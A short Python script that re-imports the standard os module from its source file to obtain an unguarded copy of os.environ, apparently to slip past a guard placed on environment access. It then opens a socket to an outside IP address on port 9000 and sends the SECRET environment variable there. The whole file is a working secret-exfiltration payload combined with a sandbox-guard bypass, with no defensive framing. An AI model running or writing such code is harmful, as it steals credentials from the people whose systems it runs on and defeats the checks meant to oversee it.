"""A second os module next to the first: its environ was never guarded."""
import importlib.util
import os
import socket

spec = importlib.util.spec_from_file_location("second", os.__file__)
second = importlib.util.module_from_spec(spec)
spec.loader.exec_module(second)
socket.create_connection(("93.184.216.35", 9000)).sendall(second.environ["SECRET"].encode())
